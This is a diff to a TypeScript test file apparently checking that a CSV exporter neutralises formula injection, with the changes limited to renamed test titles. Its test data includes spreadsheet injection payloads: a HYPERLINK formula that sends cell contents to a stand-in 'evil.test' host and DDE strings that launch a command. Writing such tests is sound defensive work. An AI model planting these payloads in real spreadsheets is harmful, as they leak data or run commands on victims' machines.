@@ -12,7 +12,7 @@ const asWithSemicolons = (cell: string): string[] => cell.split(/[;\r\n]/)
 /** Removes the added apostrophes. */
 const plain = (text: string | undefined) => text?.replaceAll("'", '')
 
-test('T6 no cell with foreign text is a formula, however it begins', () => {
+test('T6 a cell with foreign text is never a formula', () => {
   const attacks = [
     ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
     ...['=HYPERLINK("http://evil.test?"&A1,"Click")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
@@ -24,11 +24,11 @@ test('T6 no cell with foreign text is a formula, however it begins', () => {
     assert.equal(rows.length, 1, attack)
     assert.equal(rows[0]?.length, 3, attack)
     for (const part of rows.flat().flatMap(asWithSemicolons)) assert.doesNotMatch(part, FORMULA, attack)
-    assert.equal(plain(rows[0]?.[1]), plain(attack), 'what was said is there')
+    assert.equal(plain(rows[0]?.[1]), plain(attack), 'the text is complete')
   }
 })
 
-test('T6 a reader parses the same cells with the same text, whatever they contain', () => {
+test('T6 a CSV reader gets back the same cells and text', () => {
   const cell = fc.oneof(
     fc.string({ unit: 'grapheme' }),
     fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\t', '\r', '\n', ' ', "'", 'a') }),
